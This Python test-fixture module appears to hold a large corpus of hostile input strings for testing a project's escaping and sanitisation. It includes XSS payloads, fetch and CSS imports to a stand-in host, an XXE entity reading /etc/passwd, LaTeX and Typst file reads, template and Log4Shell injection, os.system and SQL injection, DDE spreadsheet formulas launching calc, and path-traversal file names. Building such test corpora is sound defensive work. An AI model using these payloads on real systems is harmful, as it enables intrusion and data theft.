# ruff: noqa: E501 (a text that tries something keeps its form)
"""Several hundred texts that try to be more than text: what a name, an answer or a file name may hold.

`TRAP` is what a script would do if one ran: the tests look for its traces. Written for this project.
"""

from __future__ import annotations

TRAP = "window.__hit=1;alert(1)"

_CALLS = [
    TRAP,
    "fetch('https://piege.example/x')",
    "location='https://piege.example/'",
    "document.body.remove()",
]
_ALIVE = [
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script/x>{0}</script>", "<script\n>{0}</script\n>",
    "<svg onload={0}>", "<svg><script>{0}</script></svg>", "<svg/onload={0}//", "<svg><animate onbegin={0} attributeName=x>",
    "<img src=x onerror={0}>", "<img src=x onerror='{0}'", "<image href=x onerror={0}>", "<video><source onerror={0}>",
    "<body onload={0}>", "<details open ontoggle={0}>", "<input autofocus onfocus={0}>", "<marquee onstart={0}>x",
    "<iframe srcdoc='<script>{0}</script>'>", "<object data='javascript:{0}'>", "<embed src='javascript:{0}'>",
    "<a href='javascript:{0}'>clic</a>", "<form action='javascript:{0}'><button>", "<base href='javascript:{0}//'>",
    "<math><mtext></table><mglyph><style><img src=x onerror={0}>", "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<template><script>{0}</script></template>", "<select><style></select><script>{0}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<link rel=stylesheet href='javascript:{0}'>",
]  # fmt: skip
_CLOSERS = [
    "", '">', "'>", "-->", "]]>", "</title>", "</style>", "</textarea>", "</table>", "</section></main>", "</caption>",
    "</svg>", "</noscript>", "</pre></code>", '" autofocus onfocus=window.__hit=1 x="', "' onmouseover='window.__hit=1",
]  # fmt: skip
MARKUP = [a.format(c) for a in _ALIVE for c in _CALLS[: 2 if len(a) < 30 else 1]]
MARKUP += [f"{closer}<img src=x onerror={TRAP}>" for closer in _CLOSERS]
MARKUP += [f"{closer}<script>{TRAP}</script>" for closer in _CLOSERS[:8]]
MARKUP += [
    "<b>gras</b>", "<!-- commentaire", "<!--><img src=x onerror=window.__hit=1>", "<![CDATA[<b>x</b>]]>", "<?php echo 1 ?>",
    "<?xml-stylesheet href='https://piege.example/x.xsl'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">&b;', "&lt;script&gt;", "&#60;script&#62;", "&#x3c;b&#x3e;", "&amp;amp;", "&nbsp;&copy;",
    "%3Cscript%3E", "\\u003cscript\\u003e", "+ADw-script+AD4-", "<\u0131mg src=x>", "＜script＞", "‹script›", "<plaintext>",
    "<xmp>", "<textarea>", "<title>", "<style>*{display:none}</style>", "<style>@import 'https://piege.example/x.css'</style>",
    "<div style='position:fixed;inset:0;background:url(https://piege.example/x)'>", "<table><tr><td>", "</td></tr></table>",
    "</p></div></body></html>", "<h1>titre</h1>", "<img src='https://piege.example/x.png'>", "<img srcset='//piege.example/x'>",
]  # fmt: skip
STYLE = [
    '"}body{display:none}', "'}*{background:url(https://piege.example)}", "*/ } @import 'x'; /*", "\\", '\\"', "\\000022",
    "expression(alert(1))", "url(javascript:alert(1))", "-moz-binding:url(x)", "};@page{size:1mm}", "content:attr(x)",
]  # fmt: skip
MARKDOWN = [
    "[lien](javascript:window.__hit=1)", "[x]: javascript:alert(1)", "![img](https://piege.example/x.png)", "<https://piege.example>",
    "**gras**", "_italique_", "~~barré~~", "`code`", "# titre", "> parole", "- un point", "1. un", "* * *", "---", "| a | b |",
    "a  \nb", "[^1]", "![x](x \"onerror=window.__hit=1\")", "<javascript:window.__hit=1>", "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:msgbox)", "[a](JaVaScRiPt:window.__hit=1)", "[a](\x01javascript:window.__hit=1)", "&colon;", "\\*pas gras\\*",
]  # fmt: skip
SETTING = [
    "$x^2$", "$$\\int$$", "\\(x\\)", "\\[x\\]", "\\begin{document}", "\\input{/etc/passwd}", "\\write18{ls}", "\\href{javascript:alert(1)}{x}",
    "#eval(\"1+1\")", "#panic(\"x\")", '")#panic("x") + ("', "#read(\"/etc/passwd\")", "#import \"x\"", "#include \"x\"", "#sys.inputs",
    "#set page(width: 1mm)", "#pagebreak()", "@label", "<label>", "@preview/x:1", "$ x $", "= Titre", "/ terme: x", "+ un", "// commentaire",
    "/* commentaire */", "*/", "```typ #panic()```", "~", "---", "...", "\\u{1F600}", "#let x = 1", "#(1+1)", "[", "]", "[[", "#[", "{", "}", "#{",
    "{{ 7*7 }}", "{% raw %}", "{# x #}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://piege.example/a}",
    "%s%s%n", "%(x)s", "{0}", "{}", "{x!r}", "f'{1}'", "__import__('os').system('ls')", "'; DROP TABLE lieux; --", "' OR 1=1 --", "\x1b[31mrouge",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=HYPERLINK(\"https://piege.example\",\"clic\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(\"https://piege.example\",\"//a\")", "=WEBSERVICE(\"https://piege.example\")", "=DDE(\"cmd\";\"/C calc\")",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u202f=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＋1+1", "－1+1", "＠A1", "'=1+1",
    "\"=1+1\"", "''=1+1", "«\u202f=1+1\u202f»", "=A1", "-A1", "+A1", "-1+1", "--1", "=-1", "%=1", ";=1+1", ",=1+1", "x;=1+1", "a\";=1+1;\"", "=\"a\"&\"b\"",
    "-5", "−5", "+5", "+33 6 12 34 56 78", "+33 (0)6 12 34 56 78", "- un point", "-un point", "_x003D_1+1", "_x000D_", "#REF!", "#N/A", "TRUE", "1E999", "1/2",
]  # fmt: skip
_UNSEEN = [
    *map(chr, [*range(0x00, 0x20), *range(0x7F, 0xA1)]), "\u00ad", "\u061c", "\u115f", "\u180e", *map(chr, range(0x200B, 0x2010)),
    *map(chr, range(0x2028, 0x2030)), *map(chr, range(0x2060, 0x2070)), "\u2800", "\u3164", "\ue000", "\ue001", "\ue002", "\uf8ff", "\ufdd0",
    "\ufeff", "\uffa0", "\ufff9", "\ufffb", "\ufffc", "\ufffd", "\ufffe", "\uffff", "\ud800", "\udfff", "\udc80", "\U000e0001", "\U000e007f",
    "\U000f0000", "\U0010fffe", "\U0010ffff", "\U0001fffe",
]  # fmt: skip
UNSEEN = [f"a{c}b" for c in _UNSEEN]
UNSEEN += [
    "\u202egpj.exe", "\u2066a\u2069", "\u2067שלום\u2069 fin", "a\u202e\u202d\u202ab", "\u200f" * 50 + "x", "\ue0005\ue001", "\ue00099\ue001",
    "x\ue0000\ue001 12:30", "\x00" * 20 + "a", "\ud83d seul", "seul \ude00", "\u200b", "\u2800\u2800", "\x7f", "\u202e",
]  # fmt: skip
SCRIPTS = [
    "🙂", "👨‍👩‍👧", "🇫🇷", "漢字かな交じり文", "한국어", "עברית", "العربية", "فارسی", "हिन्दी", "ไทย", "ბ", "Ω≈ç√∫", "ﷺ", "𝕬𝖇𝖈", "ｆｕｌｌ", "ﬁ ﬂ", "İı", "ẞß", "Ǆ", "é\u0301",
    "Z" + "\u0351\u0313\u034a" * 40, "a" + "\u0489" * 60, "ก" + "็" * 60, "x\u20dd\u20de\u20df\u20e0", "שלום (12) ; x = 5", "٠١٢٣", "½ ¾ ²", "—–‑-−",
    "œŒæÆ", "’‘“”«»‹›", "a\u00a0\u202fb", "…", "A\u030a", "\u1e9b\u0323", "￼", "𐍈", "🏴\U000e0067\U000e0062\U000e007f",
]  # fmt: skip
LONG = [
    "W" * 300, "i" * 1500, "anticonstitutionnellement" * 12, "https://exemple.fr/" + "a" * 400, "a-" * 200, "=" * 300, "<" * 300, "é" * 300, "漢" * 300,
    "_" * 300, "mot " * 400, "\u00a0mot" * 80, "🙂" * 120, "1" * 200, "a/b" * 100, "x\n" * 40, "\t" * 50 + "x",
]  # fmt: skip
NAMES = [
    "../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "C:\\Windows", "CON", "nul.txt", "a:b", "a|b|c", "reseau", "public", ".", "..", "~", "a?b#c",
    "javascript:window.__hit=1", "data:text/html,<script>alert(1)</script>", "//piege.example/x", "\\\\piege\\x", "file:///etc/passwd", "-rf", "--help",
    "a b.html", "é.html", "x" * 200 + ".html", "lieu|orgelet|2025|x|", "null", "None", "NaN", "undefined", "true", "-0", "1e3",
]  # fmt: skip
ALL = list(dict.fromkeys([*MARKUP, *STYLE, *MARKDOWN, *SETTING, *FORMULAS, *UNSEEN, *SCRIPTS, *LONG, *NAMES]))
